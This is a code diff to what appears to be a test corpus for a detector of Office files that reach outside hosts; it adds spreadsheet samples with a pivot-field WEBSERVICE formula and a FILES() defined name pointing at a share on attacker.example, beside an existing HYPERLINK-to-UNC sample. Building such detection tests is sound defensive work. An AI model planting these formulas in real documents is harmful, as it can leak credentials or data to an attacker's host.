@@ -1647,6 +1647,24 @@ function reachingOfficeItems(): CorpusItem[] {
       () => sheetWithFormula('HYPERLINK(&quot;\\\\attacker.example\\share\\x.xlsx&quot;,&quot;附件&quot;)'),
       'OOXML_EXTERNAL',
     ),
+    item(
+      'xlsx-pivot-calculated-field-webservice',
+      FUNCTION,
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/pivotCache/pivotCacheDefinition1.xml',
+            data: `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheFields count="1"><cacheField name="x" numFmtId="0" formula="${webservice}" databaseField="0"/></cacheFields></pivotCacheDefinition>`,
+          },
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-files-on-share-defined-name',
+      FUNCTION,
+      () => definedNameFormula(`FILES(${q('\\\\attacker.example\\share\\*')})`),
+      'OOXML_DDE',
+    ),
   ];
 }
 
